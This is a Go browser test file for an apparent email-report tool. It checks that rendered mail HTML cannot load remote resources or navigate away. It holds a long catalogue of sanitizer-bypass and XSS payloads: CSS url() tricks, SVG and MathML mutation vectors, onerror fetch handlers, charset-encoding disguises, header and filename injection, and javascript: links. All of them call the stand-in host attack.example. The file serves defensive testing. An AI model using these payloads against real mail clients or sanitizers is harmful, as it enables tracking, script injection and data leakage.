package browser

import (
	"context"
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"

	"github.com/go-mailtest/mailtest/internal/report"
	"github.com/go-mailtest/mailtest/internal/report/sample"
)

// ways are ways of asking for something that are less known than those of attack: properties that
// take an image, animations of SVG, MathML, HTML that a parser understands otherwise than whoever
// looks for tags in it, frames in what a frame shows, URLs written in other ways.
const ways = `<p style="background:url(http://attack.example/style-attribute.png)">a</p>
<p style="background:-webkit-cross-fade(url(http://attack.example/cross.png),url(http://attack.example/fade.png),50%)">a</p>
<p style="border-image:url(http://attack.example/border.png) 1;mask-image:url(http://attack.example/mask.png);-webkit-mask-box-image:url(http://attack.example/maskbox.png);shape-outside:url(http://attack.example/shape.png);float:left">a</p>
<p style="filter:url(http://attack.example/filter.svg#f);clip-path:url(http://attack.example/clip.svg#c);offset-path:url(http://attack.example/offset.svg#c)">a</p>
<p style="--u:url(http://attack.example/variable.png);background:var(--u)">a</p>
<p style="b\61 ckground:u\72 l(http://attack.example/escaped.png)">a</p>
<style>p:hover,p{background-image:url("http://attack.example/sheet-image.png")}p::after{content:url(//attack.example/after.png)}@media screen{@font-face{font-family:q;src:local(x),url(http://attack.example/second.woff)}}p{font-family:q}@page{background:url(http://attack.example/page.png)}::selection{background:url(http://attack.example/selection.png)}li::marker{content:url(http://attack.example/marker.png)}</style><ul><li>x</ul>
<style>@import url(//attack.example/import2.css) layer(a) supports(display:block);</style>
<svg width=40 height=40><image href="data:," width=9 height=9><animate attributeName="href" to="http://attack.example/animate.png" begin="0s" dur="1s" fill="freeze"/></image>
<image width=9 height=9><set attributeName="href" to="http://attack.example/set-href.png"/></image>
<filter id="f1"><feImage href="http://attack.example/feimage.png"/></filter><rect width=9 height=9 filter="url(#f1)"/>
<rect width=9 height=9 fill="url(http://attack.example/paint.svg#p)" mask="url(http://attack.example/svgmask.svg#p)" marker-end="url(http://attack.example/svgmarker.svg#p)"/>
<text><textPath href="http://attack.example/textpath.svg#p">x</textPath></text><linearGradient href="http://attack.example/gradient.svg#p"/>
<use xlink:href="http://attack.example/xuse.svg#a" href="http://attack.example/use2.svg#a"/><use href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='a'%3E%3Cimage href='http://attack.example/use-data.png'/%3E%3C/svg%3E#a"/>
<style>@import "http://attack.example/svg-import.css";rect{fill:url(http://attack.example/svg-fill.svg#a)}</style>
<foreignObject width=9 height=9><body xmlns="http://www.w3.org/1999/xhtml"><img src="http://attack.example/foreign.png"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://attack.example/foreign-frame"></iframe></body></foreignObject>
<script href="http://attack.example/script-href.js"/><handler>x</handler><animate onbegin="fetch('http://attack.example/script-onbegin')" attributeName=x dur=1s /><discard onbegin="fetch('http://attack.example/script-discard')"/></svg>
<math href="http://attack.example/math"><mglyph src="http://attack.example/mglyph.png"/><mtext><img src="http://attack.example/mtext.png"><style><img src="http://attack.example/mutation1.png"></style></mtext><annotation-xml encoding="text/html"><link rel=preconnect href=https://attack.example:444><img src="http://attack.example/annotation.png"></annotation-xml></math>
<noscript><p title="</noscript><img src=http://attack.example/noscript1.png>"></noscript><noscript><style></noscript><img src=http://attack.example/noscript2.png></style></noscript>
<noscript><noscript><link rel=preconnect href=https://attack.example:445></noscript></noscript>
<template><img src=http://attack.example/template.png></template><div><template shadowrootmode="open"><style>@import "http://attack.example/shadow.css";</style><img src="http://attack.example/shadow.png"><link rel="preconnect" href="http:https://attack.example:446"></template></div>
<form><math><mtext></form><form><mglyph><style></math><img src=http://attack.example/mutation2.png onerror="fetch('http://attack.example/script-mutation')"></style></mglyph></form>
<svg></p><style><a id="</style><img src=http://attack.example/mutation3.png onerror=fetch('http://attack.example/script-mutation3')>">
</svg><select><style></select><img src=http://attack.example/select.png></style></select>
<xmp><p title="</xmp><img src=http://attack.example/xmp.png>"></xmp><plaintextx>
<table><td><link rel=stylesheet href=http://attack.example/table.css><meta http-equiv=refresh content="0;url=http://attack.example/refresh2"></table>
<LiNk/rel=preconnect/href=https://attack.example:447><link
rel="preconnect" href="https://attack.example:448"><link	rel=preconnect href=https://attack.example:449 /><link` + "\f" + `rel=preconnect href=https://attack.example:450>
<<link rel=preconnect href=https://attack.example:451><lin<link>k rel=preconnect href=https://attack.example:452><!--><link rel=preconnect href=https://attack.example:453>--><!-- --!><link rel=preconnect href=https://attack.example:454>
<![CDATA[><link rel=preconnect href=https://attack.example:455>]]><?x ><link rel=preconnect href=https://attack.example:456>
<image src="http://attack.example/image-element.png"><input type=image src=http://attack.example/input2.png formaction=http://attack.example/formaction>
<bgsound src=http://attack.example/bgsound.wav><layer src=http://attack.example/layer></layer><xml src=http://attack.example/xml></xml><keygen><isindex action=http://attack.example/isindex>
<img attributionsrc="http://attack.example/attribution" src="data:,"><a attributionsrc="http://attack.example/attribution2" href="#">x</a>
<img loading=eager decoding=sync sizes=1px srcset="http://attack.example/sizes.png 1w" usemap="#m"><img src=" &#9;http://attack.example/space.png"><img src="ht&#10;tp://attack.example/newline.png"><img src="&#104;ttp://attack.example/entity.png"><img lowsrc=http://attack.example/lowsrc.png dynsrc=http://attack.example/dynsrc.png longdesc=http://attack.example/longdesc>
<picture><source media="(min-width:1px)" srcset="http://attack.example/media.png"><img></picture>
<video poster="http://attack.example/poster2.png" preload=auto><source src="http://attack.example/preload.mp4"></video><audio preload=auto src=//attack.example/preload.ogg></audio>
<dialog open style="background:url(http://attack.example/dialog.png)">x</dialog><div popover style="background:url(http://attack.example/popover.png)">x</div>
<input autofocus onfocus="fetch('http://attack.example/script-autofocus')"><textarea autofocus></textarea><div tabindex=0 autofocus contenteditable>x</div>
<div onanimationstart="fetch('http://attack.example/script-animation')" style="animation:x 1s">x</div><style>@keyframes x{from{background:url(http://attack.example/keyframe.png)}}</style>
<iframe srcdoc="&lt;img src=http://attack.example/entity-srcdoc.png&gt;"></iframe><iframe src="data:text/html,<img src=http://attack.example/data-frame.png><script>fetch('http://attack.example/script-data-frame')</script>"></iframe>
<object type="text/html" data="data:text/html,<img src=http://attack.example/data-object.png>"></object><embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://attack.example/script-embed')</script></svg>">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://attack.example/script-speculation"]}],"prerender":[{"source":"list","urls":["http://attack.example/script-prerender"]}]}</script>
<script type="importmap">{"imports":{"a":"http://attack.example/script-map.js"}}</script><script>import('a')</script>
<body/onload=fetch('http://attack.example/script-body2')><body background=//attack.example/body2.png>
`

// disguised is mail whose charset, encoding or names hide what they are: to be shown it is decoded
// first, and looked at then.
var disguised = []string{
	"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src+AD0-http://attack.example/utf-7.png+AD4-+ADw-link rel+AD0-preconnect href+AD0-https://attack.example:500+AD4-",
	"Content-Type: text/html; charset=iso-2022-jp\r\n\r\n<p title=\"\x1b$B\"><img src=http://attack.example/2022.png>\x1b(B<link\x1b(J rel=preconnect href=https://attack.example:501>",
	"Content-Type: text/html; charset=hz-gb-2312\r\n\r\n<p title=\"~{\"><img src=http://attack.example/hz.png>~}\"><li~\nnk rel=preconnect href=https://attack.example:502>",
	"Content-Type: text/html; charset=utf-16le\r\n\r\n<\x00l\x00i\x00n\x00k\x00 \x00r\x00e\x00l\x00=\x00p\x00r\x00e\x00c\x00o\x00n\x00n\x00e\x00c\x00t\x00 \x00h\x00r\x00e\x00f\x00=\x00/\x00/\x00a\x00t\x00t\x00a\x00c\x00k\x00.\x00e\x00x\x00a\x00m\x00p\x00l\x00e\x00>\x00",
	"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cli=\r\nnk rel=3Dpreconnect href=3Dhttps://attack.example:503><\x00link rel=3Dpreconnect href=3Dhttps://attack.example:504><li\x00nk rel=3Dpreconnect>",
	"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGxpbmsgcmVsPXByZWNvbm5lY3QgaHJlZj1odHRwczovL2F0dGFjay5leGFtcGxlOjUwNT4=",
	"Subject: \u2028</script\u2028><!--<script>{{.}}${1}]]>\r\nContent-Type: text/html; charset=\"\\\"><img src=http://attack.example/charset.png>\"\r\n\r\n<p>\u2028</iframe>",
	"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"javascript:fetch('http://attack.example/script-name')\"\r\n\r\n" +
		"--b\r\nContent-Type: application/x; name*=utf-8''..%2F..%2F%3C%2Fscript%3E%3Cimg%20src=http://attack.example/name.png%3E%00%E2%80%AE\r\n\r\n--b\r\nContent-Type: \"><img src=http://attack.example/type.png>/html\r\n\r\n--b--\r\n",
	"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:i\"><img src=\"cid:s\">\r\n--b\r\nContent-ID: <i>\r\nContent-Type: image/png\"><link rel=preconnect href=\"https://attack.example:506\r\n\r\nx\r\n" +
		"--b\r\nContent-ID: <s>\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://attack.example/cid.png\"/><script>fetch('http://attack.example/script-cid')</script></svg>\r\n--b--\r\n",
}

// The ways are ways: where nothing protects, many of them are heard. In a report none is: that is
// what TestHostileMail says of them.
func TestWays(t *testing.T) {
	b := open(t)
	address := write(t, []byte(fmt.Sprintf("<!doctype html><title>control</title><iframe srcdoc=\"%s\"></iframe>", html.EscapeString(ways))))
	for tries := 0; tries < 10; tries++ {
		b.visit(address)
		b.linger()
		if heard := b.ear.all(); len(heard) >= 45 && len(ofScripts(heard)) > 3 {
			return
		}
	}
	t.Errorf("asked for less than what nobody forbids:\n%s", strings.Join(b.ear.all(), "\n"))
}

// clickable is mail in which each line leads somewhere when it is clicked.
const clickable = `<style>*{margin:0}a,button{display:block;height:30px}</style>
<a href="http://attack.example/click">0</a>
<a target="_self" href="http://attack.example/click-self">1</a>
<a target="_top" href="http://attack.example/click-top">2</a>
<a target="_parent" href="http://attack.example/click-parent">3</a>
<a download href="http://attack.example/click-download">4</a>
<a target="_self" ping="http://attack.example/click-ping" href="#x">5</a>
<a target="_self" href="javascript:fetch('http://attack.example/script-click')">6</a>
<form action="http://attack.example/click-form" target="_self"><button>7</button></form>
<form method=post action="javascript:fetch('http://attack.example/script-form')"><button formtarget="_top" formaction="http://attack.example/click-formaction">8</button></form>
<a target="_self" href="data:text/html,<img src=http://attack.example/click-data.png>">9</a>
<a target="_self" href="about:srcdoc">10</a>
<a target="_self" attributionsrc="http://attack.example/click-attribution" href="#y">11</a>
<svg width=100 height=30><a href="http://attack.example/click-svg" target="_self"><rect width=100 height=30 fill=red /></a></svg>
`

// A click in the HTML of a mail leads nowhere: neither the frame nor the page goes to another, and
// nobody is asked for anything. Where nothing protects they do.
func TestClicks(t *testing.T) {
	b := open(t)
	const control = "<!doctype html><title>control</title><iframe style='width:600px;height:500px' srcdoc=\"%s\"></iframe>"
	address := write(t, fmt.Appendf(nil, control, html.EscapeString(clickable)))
	enough := func() bool { return len(b.ear.all()) >= 3 && len(ofScripts(b.ear.all())) > 0 }
	for tries := 0; tries < 30 && !enough(); tries++ {
		b.visit(address)
		b.click([]int{1, 6, 7}[tries%3])
		b.linger() // the next page is the end of what this one asks for
	}
	if !enough() {
		t.Errorf("asked for less than what nobody forbids:\n%s", strings.Join(b.ear.all(), "\n"))
	}

	b = open(t)
	address = file(t, sample.Mail([]*report.Message{{Subject: "Click here", HTML: clickable}}), report.Options{}) + "#c5,m=INBOX/1,html"
	lines := len(regexp.MustCompile(`(?m)^<(a|form|svg)\b`).FindAllString(clickable, -1))
	if lines < 12 {
		t.Fatalf("%d lines", lines)
	}
	for line := range lines {
		b.visit(address)
		b.run(chromedp.Evaluate(`document.querySelector('.frame').style = 'position:fixed;inset:0;width:600px;height:500px;z-index:99'`, nil))
		b.click(line)
		eval[bool](b, "new Promise(done => setTimeout(() => done(true), 300))")
		if at := eval[string](b, "location.href"); at != address {
			t.Errorf("line %d leads to %s", line, at)
		}
	}
	b.linger()
	if heard := b.ear.all(); len(heard) > 0 {
		t.Errorf("the page asked for\n%s", strings.Join(heard, "\n"))
	}
	targets, err := chromedp.Targets(b.ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, page := range targets {
		if strings.Contains(page.URL, attacked) {
			t.Errorf("a page was opened: %s", page.URL)
		}
	}
	b.fine()
}

// click clicks at a line of the mail that is shown at the top of the page.
func (b *tab) click(line int) {
	b.t.Helper()
	x, y := 30.0, 25+30*float64(line)
	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
		if err := input.DispatchMouseEvent(input.MousePressed, x, y).WithButton(input.Left).WithClickCount(1).Do(ctx); err != nil {
			return err
		}
		return input.DispatchMouseEvent(input.MouseReleased, x, y).WithButton(input.Left).WithClickCount(1).Do(ctx)
	}))
}
